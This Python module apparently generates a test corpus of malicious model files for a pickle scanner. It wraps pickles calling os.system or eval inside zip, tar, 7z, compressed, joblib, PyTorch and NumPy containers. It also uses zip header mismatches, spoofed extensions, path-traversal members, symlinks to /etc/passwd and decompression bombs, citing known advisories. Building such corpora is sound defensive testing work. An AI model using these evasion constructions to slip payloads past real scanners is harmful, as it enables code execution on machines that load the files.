"""The same calls inside containers: zip in all its disagreements, tar, compressors, 7z, joblib, PyTorch's three formats, NumPy."""
import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

from assembler import SHELL, Call, G, Raw, dump, emit, global_line, stack_global, text
from gadgets import npy_object, torch_legacy

BAD = dump(Call("os:system", SHELL), 2, "line")
GOOD = pickle.dumps({"weights": [1.0, 2.0]}, 2)
CALL = global_line("os", "system") + text(SHELL) + b"\x85R"


class Entry:
    """One zip member; anything may be made to disagree between its local header and the central directory."""

    def __init__(self, name, data, **odd):
        self.name = name.encode() if isinstance(name, str) else name
        self.data = data
        self.odd = odd


def make_zip(entries, prefix=b"", comment=b"", gap=b"", trailer=b"", zip64=False):
    body, directory = bytearray(prefix), bytearray()
    for entry in entries:
        odd = entry.odd
        method = odd.get("method", 0)
        packed = odd.get("packed", entry.data if method == 0 else zlib.compress(entry.data)[2:-4] if method == 8 else entry.data)
        crc = odd.get("crc", zlib.crc32(entry.data))
        offset = len(body)
        flags = odd.get("flags", 0)
        local = odd.get("local_name", entry.name)
        extra = odd.get("local_extra", b"")
        size = odd.get("size", len(entry.data))
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, odd.get("local_flags", flags), odd.get("local_method", method), 0, 33,
                            odd.get("local_crc", crc), odd.get("local_packed", len(packed)), odd.get("local_size", size), len(local), len(extra))
        body += local + extra + packed + odd.get("after", b"")
        if odd.get("hidden"):
            continue
        central_extra = odd.get("extra", b"")
        directory += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, 0, 33, crc, len(packed), size, len(entry.name),
                                 len(central_extra), 0, 0, 0, odd.get("attributes", 0), odd.get("offset", offset) - (len(prefix) if odd.get("relative") else 0))
        directory += entry.name + central_extra
    count = sum(not entry.odd.get("hidden") for entry in entries)
    body += gap
    start = len(body)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), start, len(comment)) + comment
    return bytes(body + directory + end + trailer)


def torch_zip(data, name="archive/data.pkl", **odd):
    return make_zip([Entry(name, data, **odd), Entry("archive/version", b"3\n"), Entry("archive/data/0", b"\0" * 16)])


def make_tar(members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data, *kind in members:
            info = tarfile.TarInfo(name)
            if kind:
                info.type, info.linkname = kind[0], kind[1]
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def number(value):
    """A 7z variable-length number below 2^14."""
    return bytes([value]) if value < 0x80 else bytes([0x80 | (value >> 8), value & 0xFF])


def make_7z(name, data, method="copy"):
    if method == "copy":
        coder, packed = b"\x01\x00", data
    else:
        packed = lzma.compress(data, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 16}])
        coder = b"\x21\x21\x01\x08"
    label = name.encode("utf-16-le") + b"\0\0"
    header = b"\x01\x04\x06\x00" + number(1) + b"\x09" + number(len(packed)) + b"\x00"
    header += b"\x07\x0b\x01\x00\x01" + coder + b"\x0c" + number(len(data)) + b"\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00\x00"
    header += b"\x05\x01\x11" + number(len(label) + 1) + b"\x00" + label + b"\x00\x00"
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


def pack_gzip(data):
    return gzip.compress(data, mtime=0)


def lz4_frame(data):
    """An LZ4 frame of stored blocks; its header checksum is the second byte of xxHash32."""
    descriptor = b"\x60\x40"
    blocks = b"".join(struct.pack("<I", len(c) | 0x80000000) + c for c in (data[i:i + 60000] for i in range(0, len(data), 60000)))
    return b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF]) + blocks + b"\0\0\0\0"


def xxh32(data, seed=0):
    """xxHash32 for fewer than 16 bytes."""
    mask, p1, p2, p3, p4, p5 = 0xFFFFFFFF, 2654435761, 2246822519, 3266489917, 668265263, 374761393
    rotate = lambda x, r: ((x << r) | (x >> (32 - r))) & mask
    h = (seed + p5 + len(data)) & mask
    while len(data) >= 4:
        h = rotate((h + struct.unpack("<I", data[:4])[0] * p3) & mask, 17) * p4 & mask
        data = data[4:]
    for byte in data:
        h = rotate((h + byte * p5) & mask, 11) * p1 & mask
    h = ((h ^ (h >> 15)) * p2) & mask
    h = ((h ^ (h >> 13)) * p3) & mask
    return h ^ (h >> 16)


def zstd_frame(data):
    """A Zstandard frame of raw blocks."""
    out = b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(data))
    parts = [data[i:i + 100000] for i in range(0, len(data), 100000)]
    for index, part in enumerate(parts):
        out += struct.pack("<I", (len(part) << 3) | (index == len(parts) - 1))[:3] + part
    return out


def joblib_array(after=b"", raw=b"\x01" * 16, pad=True):
    """A list whose first item is an array as joblib writes it (raw bytes between the opcodes), then whatever follows."""
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + emit({
        "subclass": G("numpy:ndarray"), "shape": (2,), "order": "C",
        "dtype": Raw(stack_global("numpy", "dtype") + emit(("f8", False, True)) + b"R" + emit((3, "<", None, None, None, -1, -1, 0)) + b"b"),
        "allow_mmap": True, **({"numpy_array_alignment_bytes": 16} if pad else {})}) + b"b"
    head = b"\x80\x04](" + wrapper
    filler = b""
    if pad:
        size = 16 - (len(head) + 1) % 16
        filler = bytes([size]) + b"\xff" * size
    return head + filler + raw + after + b"e."


def joblib_object():
    wrapper = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + emit({
        "subclass": G("numpy:ndarray"), "shape": (1,), "order": "C", "dtype": Raw(stack_global("numpy", "dtype") + emit(("O8", False, True)) + b"R" + emit((3, "|", None, None, None, -1, -1, 63)) + b"b"), "allow_mmap": False}) + b"b"
    return b"\x80\x04](" + wrapper + BAD + b"e."


def containers():
    """(id, technique, advisories, file name, bytes, loader)"""
    out = []

    def add(technique, name, file, data, loader, *advisories):
        out.append((name, technique, list(advisories), file, data, loader))

    t = "PyTorch zip"
    add(t, "plain", "model.pt", torch_zip(BAD), "torch")
    add(t, "pickle of another name", "model.pt", torch_zip(BAD, "archive/data.pkl", ), "torch")
    add(t, "call in a storage id", "model.pt", torch_zip(dump(Raw(b"(" + text("storage") + CALL + text("0") + text("cpu") + b"K\x01tQ"))), "torch")
    add(t, "payload member without extension", "model.zip", make_zip([Entry("archive/data.pkl", GOOD), Entry("archive/config", BAD)]), "zip:archive/config", "GHSA-769v-p64c-89pr", "CVE-2025-1889")
    add(t, "payload named as a tensor", "model.zip", make_zip([Entry("archive/data.pkl", GOOD), Entry("archive/data/0", BAD)]), "zip:archive/data/0")
    add(t, "constants.pkl", "model.pt", make_zip([Entry("archive/data.pkl", GOOD), Entry("archive/constants.pkl", BAD), Entry("archive/version", b"3\n")]), "zip:archive/constants.pkl")
    add(t, "deflated", "model.pt", torch_zip(BAD, method=8), "torch")

    t = "zip disagreements"
    jailed = ["GHSA-7q5r-7gvp-wc82", "CVE-2025-1944"]
    add(t, "local name differs", "model.pt", torch_zip(BAD, local_name=b"archive/harmless.txt"), "torch", *jailed)
    add(t, "local name empty", "model.pt", torch_zip(BAD, local_name=b""), "torch", *jailed)
    for bit in (0x1, 0x20, 0x40, 0x800, 0x2000):
        add(t, f"flag bit {bit:#x} in the directory", "model.pt", torch_zip(BAD, flags=bit), "torch", "GHSA-w8jq-xcqf-f792", "CVE-2025-1945")
        add(t, f"flag bit {bit:#x} in the local header", "model.pt", torch_zip(BAD, local_flags=bit), "torch", "GHSA-w8jq-xcqf-f792", "CVE-2025-1945")
    add(t, "wrong CRC", "model.pt", torch_zip(BAD, crc=1), "torch", "GHSA-mjqp-26hc-grxg", "CVE-2025-10156")
    add(t, "wrong CRC in the local header", "model.pt", torch_zip(BAD, local_crc=1), "torch", "GHSA-mjqp-26hc-grxg")
    add(t, "unsupported method first", "model.zip", make_zip([Entry("a", b"x", method=99, packed=b"x"), Entry("data.pkl", BAD)]), "zip:data.pkl")
    add(t, "method differs", "model.zip", make_zip([Entry("data.pkl", BAD, local_method=8)]), "zip:data.pkl")
    add(t, "sizes differ in the local header", "model.pt", torch_zip(BAD, local_size=0, local_packed=0), "torch")
    add(t, "duplicate names, bad last", "model.zip", make_zip([Entry("data.pkl", GOOD), Entry("data.pkl", BAD)]), "zip:data.pkl")
    add(t, "duplicate names, bad first", "model.zip", make_zip([Entry("data.pkl", BAD), Entry("data.pkl", GOOD)]), "zip-first:data.pkl")
    add(t, "names differ by case", "model.zip", make_zip([Entry("data.pkl", GOOD), Entry("Data.pkl", BAD)]), "zip:Data.pkl")
    add(t, "prefixed with text", "model.pt", make_zip([Entry("data.pkl", BAD)], prefix=b"# notes\n" * 40), "zip:data.pkl")
    add(t, "prefixed with a pickle", "model.pkl", make_zip([Entry("data.pkl", GOOD)], prefix=BAD), "pickle", "GHSA-jgw4-cr84-mqxg", "CVE-2025-10155")
    add(t, "prefixed with a zip", "model.zip", make_zip([Entry("data.pkl", BAD)], prefix=make_zip([Entry("data.pkl", GOOD)])), "zip:data.pkl")
    add(t, "two zips, reader takes the last", "model.zip", make_zip([Entry("data.pkl", GOOD)]) + make_zip([Entry("data.pkl", BAD, relative=True)]), "zip:data.pkl")
    add(t, "bytes after the end", "model.zip", make_zip([Entry("data.pkl", BAD)], trailer=b"\n" * 20), "zip:data.pkl")
    add(t, "end record inside the comment", "model.zip", make_zip([Entry("data.pkl", BAD)], comment=make_zip([Entry("x", GOOD)])), "zip-first-end:data.pkl")
    add(t, "directory entry missing", "model.zip", make_zip([Entry("ok.pkl", GOOD), Entry("data.pkl", BAD, hidden=True)]), "stream-zip:data.pkl")
    add(t, "payload in the gap before the directory", "model.zip", make_zip([Entry("ok.pkl", GOOD)], gap=BAD), "tail-pickle")
    add(t, "payload in the comment", "model.zip", make_zip([Entry("ok.pkl", GOOD)], comment=BAD), "tail-pickle")
    add(t, "payload in the extra field", "model.zip", make_zip([Entry("ok.pkl", GOOD, local_extra=b"\x99\x99" + struct.pack("<H", len(BAD)) + BAD)]), "tail-pickle")
    add(t, "two members share bytes", "model.zip", make_zip([Entry("ok.txt", BAD), Entry("data.pkl", BAD, offset=0, packed=BAD, local_name=b"data.pkl")]), "zip:ok.txt")
    add(t, "data descriptor", "model.zip", make_zip([Entry("data.pkl", BAD, flags=8, local_crc=0, local_size=0, local_packed=0, after=struct.pack("<IIII", 0x08074B50, zlib.crc32(BAD), len(BAD), len(BAD)))]), "zip:data.pkl")
    add(t, "deflate with bytes after its end", "model.zip", make_zip([Entry("data.pkl", BAD, method=8, packed=zlib.compress(BAD)[2:-4] + b"rest")]), "zip:data.pkl")
    add(t, "name with backslashes", "model.zip", make_zip([Entry("archive\\data.pkl", BAD)]), "zip:archive\\data.pkl")
    add(t, "name with a NUL", "model.zip", make_zip([Entry(b"data.pkl\0.txt", BAD)]), "zip:data.pkl")
    add(t, "bzip2 member", "model.zip", make_zip([Entry("data.pkl", BAD, method=12, packed=bz2.compress(BAD))]), "zip:data.pkl")
    add(t, "lzma member", "model.zip", written_by_zipfile("data.pkl", BAD, zipfile.ZIP_LZMA), "zip:data.pkl")

    t = "nested archives"
    nested = make_zip([Entry("data.pkl", BAD)])
    add(t, "zip in zip", "model.zip", make_zip([Entry("inner.zip", nested)]), "walk")
    deep = nested
    for _ in range(6):
        deep = make_zip([Entry("inner.zip", deep)])
    add(t, "zip six deep", "model.zip", deep, "walk")
    add(t, "zip in tar in gzip", "model.tar.gz", pack_gzip(make_tar([("m.zip", nested)])), "walk")
    add(t, "renamed zip in zip", "model.zip", make_zip([Entry("weights.bin", nested)]), "walk")
    add(t, "pickle in gzip in zip", "model.zip", make_zip([Entry("data.pkl.gz", pack_gzip(BAD))]), "walk")
    add(t, "torch file in zip", "model.zip", make_zip([Entry("model.pt", torch_zip(BAD))]), "walk", "GHSA-jgw4-cr84-mqxg")
    add(t, "deep beyond limits", "model.zip", deepen(nested, 40), "walk")

    t = "tar"
    add(t, "pickle in tar", "model.tar", make_tar([("data.pkl", BAD)]), "walk")
    add(t, "pickle without extension in tar", "model.tar", make_tar([("data", BAD)]), "walk")
    add(t, "nemo archive", "model.nemo", make_tar([("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", torch_zip(BAD))]), "walk", "CVE-2025-33245", "CVE-2025-33253", "CVE-2026-24157", "CVE-2026-24159")
    add(t, "duplicate members", "model.tar", make_tar([("data.pkl", GOOD), ("data.pkl", BAD)]), "walk")
    add(t, "bytes after the end of the tar", "model.tar", make_tar([("ok.pkl", GOOD)]) + make_tar([("data.pkl", BAD)]), "walk-all")
    add(t, "wrong checksum, pickle prefix", "model.tar", BAD + make_tar([("ok.pkl", GOOD)]), "pickle")

    t = "compressed"
    for name, pack in {"gz": pack_gzip, "bz2": bz2.compress, "xz": lzma.compress, "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "zlib": zlib.compress, "lz4": lz4_frame, "zst": zstd_frame}.items():
        packed = pack(BAD)
        loader = "joblib" if name not in ("zst",) else "unverified"
        add(t, f"pickle in {name}", f"model.pkl.{name}", packed, loader)
        add(t, f"pickle in {name}, renamed", "model.pkl" if name != "lz4" else "model.joblib", packed, loader)
    add(t, "two gzip members", "model.pkl.gz", pack_gzip(GOOD) + pack_gzip(BAD), "gzip-all")
    add(t, "gzip in gzip", "model.pkl.gz.gz", pack_gzip(pack_gzip(BAD)), "walk")
    add(t, "two xz streams", "model.pkl.xz", lzma.compress(GOOD) + lzma.compress(BAD), "xz-all")
    add(t, "two bz2 streams", "model.pkl.bz2", bz2.compress(GOOD) + bz2.compress(BAD), "bz2-all")
    add(t, "truncated gzip", "model.pkl.gz", pack_gzip(BAD + b"x" * 300000)[:-40], "gzip-part")
    add(t, "gzip with a bad checksum", "model.pkl.gz", pack_gzip(BAD + b"x" * 300000)[:-8] + b"\0" * 8, "gzip-part")
    add(t, "trailing pickle behind gzip", "model.pkl.gz", pack_gzip(GOOD) + BAD, "tail-pickle")

    t = "7z"
    add(t, "stored", "model.7z", make_7z("data.pkl", BAD), "7z", "nullifAI")
    add(t, "lzma2", "model.7z", make_7z("data.pkl", BAD, "lzma2"), "7z", "nullifAI")
    add(t, "named as PyTorch", "model.pt", make_7z("data.pkl", BAD, "lzma2"), "7z", "nullifAI")

    t = "joblib"
    add(t, "array then call", "model.joblib", joblib_array(CALL), "joblib")
    add(t, "array then call, no padding", "model.joblib", joblib_array(CALL, pad=False), "joblib")
    add(t, "array bytes that look like STOP", "model.joblib", joblib_array(CALL, raw=b".N.N.N.N.N.N.N.N"), "joblib")
    add(t, "object array holds a pickle", "model.joblib", joblib_object(), "joblib")
    add(t, "call before the array", "model.joblib", b"\x80\x04" + CALL + b"0" + joblib_array()[2:], "joblib")
    for name, pack in {"zlib": zlib.compress, "gzip": pack_gzip, "bz2": bz2.compress, "xz": lzma.compress, "lzma": lambda d: lzma.compress(d, lzma.FORMAT_ALONE), "lz4": lz4_frame}.items():
        add(t, f"array then call, {name}", "model.joblib", pack(joblib_array(CALL)), "joblib")

    t = "PyTorch legacy"
    add(t, "call in the object stream", "model.pth", torch_legacy(BAD), "torch", "GHSA-97f8-7cmv-76j2")
    add(t, "magic number computed by eval", "model.pth", dump(Call("builtins:eval", "[0x1950a86a20f9469cfc6c, open(__import__('os').environ['CASTELLAN_CORPUS_MARKER'],'w').close()][0]"), 2, "line") + torch_legacy(GOOD)[len(dump(0x1950A86A20F9469CFC6C, 2)):], "torch", "GHSA-97f8-7cmv-76j2", "CVE-2026-53875")
    add(t, "call in the protocol stream", "model.pth", dump(0x1950A86A20F9469CFC6C, 2) + BAD, "torch")
    add(t, "call in the system info", "model.pth", dump(0x1950A86A20F9469CFC6C, 2) + dump(1001, 2) + BAD, "torch")
    add(t, "call in the storage keys", "model.pth", torch_legacy(GOOD)[:-len(dump([], 2))] + BAD, "torch")
    add(t, "plain pickle named .pt", "model.pt", BAD, "torch", "GHSA-jgw4-cr84-mqxg", "CVE-2025-10155")
    add(t, "old tar format", "model.pth", make_tar([("sys_info", dump({"protocol_version": 1000, "little_endian": True, "type_sizes": {}}, 2)), ("pickle", BAD), ("storages", dump(0, 2) + dump([], 2)), ("tensors", dump(0, 2))]), "torch")

    t = "NumPy"
    add(t, "object array", "array.npy", npy_object(BAD), "numpy")
    add(t, "object array in npz", "arrays.npz", make_zip([Entry("x.npy", npy_object(BAD))]), "npz")
    add(t, "pickle named npy", "array.npy", BAD, "numpy")
    add(t, "pickle inside npz without npy", "arrays.npz", make_zip([Entry("x", BAD)]), "walk")
    add(t, "object in a structured type", "array.npy", npy_header("[('a', '|O')]", BAD), "numpy")
    add(t, "object array version 3", "array.npy", npy_header("'|O'", BAD, 3), "numpy")
    add(t, "pickle after the array", "array.npy", npy_header("'<f8'", b"\0" * 8) + BAD, "numpy-twice")

    t = "spoofed extension"
    for suffix in ("txt", "json", "png", "onnx", "safetensors", "gguf", "h5", "keras", "csv", "md", "bin", "dat", "model", "ckpt", "npy", "zip", "tflite", "pb", "yaml", "jpg"):
        add(t, f"pickle named .{suffix}", f"model.{suffix}", BAD, "pickle", "GHSA-769v-p64c-89pr")
    add(t, "no extension", "model", BAD, "pickle")
    add(t, "protocol 0 named .txt", "notes.txt", b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.", "pickle")
    add(t, "zip named .bin", "pytorch_model.bin", torch_zip(BAD), "torch")
    add(t, "text before protocol 0", "notes.md", b"S'# Notes'\n0cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.", "pickle")

    t = "hostile archive"
    add(t, "zip slip", "model.zip", make_zip([Entry("../../castellan-escape", b"x")]), "rule")
    add(t, "absolute member", "model.zip", make_zip([Entry("/tmp/castellan-escape", b"x")]), "rule")
    add(t, "drive letter member", "model.zip", make_zip([Entry("C:\\castellan", b"x")]), "rule")
    add(t, "symlink in zip", "model.zip", make_zip([Entry("link", b"/etc/passwd", attributes=0xA1FF0000)]), "rule")
    add(t, "tar slip", "model.tar", make_tar([("../../castellan-escape", b"x")]), "rule", "CVE-2024-7776", "CVE-2024-55459", "CVE-2025-12060", "CVE-2022-22821", "CVE-2026-11816")
    add(t, "tar symlink outward", "model.tar", make_tar([("link", b"", tarfile.SYMTYPE, "/etc"), ("link/x", b"x")]), "rule", "CVE-2025-12060")
    add(t, "tar hardlink outward", "model.tar", make_tar([("link", b"", tarfile.LNKTYPE, "../../etc/passwd")]), "rule")
    add(t, "tar device", "model.tar", make_tar([("dev", b"", tarfile.CHRTYPE, "")]), "rule")
    add(t, "deflate bomb", "model.zip", make_zip([Entry("data", b"", method=8, packed=bomb(), size=1 << 31)]), "rule")
    add(t, "gzip bomb", "model.pkl.gz", pack_gzip(pack_gzip(b"\0" * (1 << 28))), "rule")
    add(t, "million entries claimed", "model.zip", make_zip([Entry("x", b"x")])[:-14] + struct.pack("<HHIIH", 65535, 65535, 47, 32, 0), "rule")
    return out


def bomb():
    pack = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\0" * (1 << 24)
    return b"".join(pack.compress(chunk) for _ in range(32)) + pack.flush()


def deepen(data, times):
    for _ in range(times):
        data = make_zip([Entry("inner.zip", data)])
    return data


def written_by_zipfile(name, data, method):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def npy_header(descr, payload, version=1):
    header = b"{'descr': " + descr.encode() + b", 'fortran_order': False, 'shape': (1,), }"
    lead = 10 if version == 1 else 12
    header += b" " * (63 - (lead + len(header)) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(header).to_bytes(2 if version == 1 else 4, "little") + header + payload
